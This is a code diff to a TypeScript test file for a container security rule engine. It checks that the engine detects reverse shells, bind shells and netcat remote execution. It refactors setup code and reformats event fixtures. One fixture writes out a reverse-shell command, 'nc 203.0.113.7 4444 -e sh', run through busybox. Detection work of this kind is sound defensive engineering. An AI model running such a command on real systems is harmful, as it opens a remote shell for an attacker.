@@ -1,16 +1,17 @@
 import { readdirSync, readFileSync } from 'node:fs';
 import { join } from 'node:path';
-import { Registry } from 'prom-client';
 import { describe, expect, it } from 'vitest';
-import type { Alert } from '../../../../rules/alert.js';
 import { compileRuleSet } from '../../../../rules/compiler/index.js';
-import { createRuleEngine } from '../../../../rules/engine/index.js';
 import type { VigilEvent } from '../../../../rules/event.js';
 import { fieldExists } from '../../../../rules/fields/index.js';
-import { loadRuleTexts } from '../../../../rules/loader/index.js';
+import { loadRuleTexts } from '../../../../rules/load.js';
+import { engineWith } from '../compiler/helpers.js';
 
 const dir = join(import.meta.dirname, '..', '..', '..', '..', 'rules', 'library');
-const files = readdirSync(dir).filter((f) => f.endsWith('.yaml')).sort().map((f) => ({ path: join(dir, f), text: readFileSync(join(dir, f), 'utf8') }));
+const files = readdirSync(dir)
+  .filter((f) => f.endsWith('.yaml'))
+  .sort()
+  .map((f) => ({ path: join(dir, f), text: readFileSync(join(dir, f), 'utf8') }));
 
 describe('the default rule library', () => {
   const load = loadRuleTexts(files, { fieldExists });
@@ -25,32 +26,43 @@ describe('the default rule library', () => {
   });
 
   it('tells shells by executable identity and applet, and a bind shell from a reverse one', () => {
-    const alerts: Alert[] = [];
-    const engine = createRuleEngine({ registry: new Registry(), hostname: 'n' }, (a) => alerts.push(a));
-    engine.swap(ruleSet);
+    const { engine, alerts } = engineWith(ruleSet);
     const container = { id: 'c1' };
     const fd = { type: 'ipv4', lip: '10.0.0.5', lport: 40100, rip: '203.0.113.7', rport: 4444, name: 'a->b', direction: 'out' } as const;
     // A copy of bash saved as kworker: a shell by what it is.
     engine.process({ type: 'dup', source: 'syscall', timeMs: 1, rawres: 1, container, proc: { pid: 5, name: 'kworker', exeClass: 'shell', program: 'bash' }, fd });
     // The same connection accepted on port 4444: a bind shell, not a reverse one.
-    engine.process({ type: 'dup', source: 'syscall', timeMs: 2, rawres: 1, container, proc: { pid: 6, name: 'sh', exeClass: 'shell', program: 'sh' },
-      fd: { ...fd, lport: 4444, rport: 40100, name: 'c->d', direction: 'in' } });
+    engine.process({
+      type: 'dup',
+      source: 'syscall',
+      timeMs: 2,
+      rawres: 1,
+      container,
+      proc: { pid: 6, name: 'sh', exeClass: 'shell', program: 'sh' },
+      fd: { ...fd, lport: 4444, rport: 40100, name: 'c->d', direction: 'in' },
+    });
     // busybox nc -e sh, run by busybox's own name.
-    engine.process({ type: 'execve', source: 'syscall', timeMs: 3, container, proc: { pid: 7, name: 'busybox', exe: 'busybox', args: ['nc', '203.0.113.7', '4444', '-e', 'sh'], exeClass: 'network_tool', program: 'nc' } });
+    engine.process({
+      type: 'execve',
+      source: 'syscall',
+      timeMs: 3,
+      container,
+      proc: { pid: 7, name: 'busybox', exe: 'busybox', args: ['nc', '203.0.113.7', '4444', '-e', 'sh'], exeClass: 'network_tool', program: 'nc' },
+    });
     // A look-alike: a renamed program that is nothing known.
     engine.process({ type: 'dup', source: 'syscall', timeMs: 4, rawres: 1, container, proc: { pid: 8, name: 'kworker' }, fd: { ...fd, name: 'e->f' } });
-    expect(alerts.map((a) => `${a.rule}/${a.priority}`)).toEqual([
-      'Reverse Shell/Critical', 'Bind Shell/Critical', 'Netcat Remote Code Execution in Container/Warning',
-    ]);
+    expect(alerts.map((a) => `${a.rule}/${a.priority}`)).toEqual(['Reverse Shell/Critical', 'Bind Shell/Critical', 'Netcat Remote Code Execution in Container/Warning']);
     expect(alerts[1]!.output).toContain('serves listening port 4444');
   });
 
   it('raises the reverse-shell and read-only alerts through the new fields', () => {
-    const alerts: Alert[] = [];
-    const engine = createRuleEngine({ registry: new Registry(), hostname: 'n' }, (a) => alerts.push(a));
-    engine.swap(ruleSet);
+    const { engine, alerts } = engineWith(ruleSet);
     const dup: VigilEvent = {
-      type: 'dup', source: 'syscall', timeMs: 1, rawres: 1, proc: { pid: 5, name: 'sh' },
+      type: 'dup',
+      source: 'syscall',
+      timeMs: 1,
+      rawres: 1,
+      proc: { pid: 5, name: 'sh' },
       fd: { type: 'ipv4', rip: '203.0.113.7', rport: 4444, name: 'a->b', direction: 'out', relayPid: 4, relayName: 'nc' },
     };
     engine.process(dup);
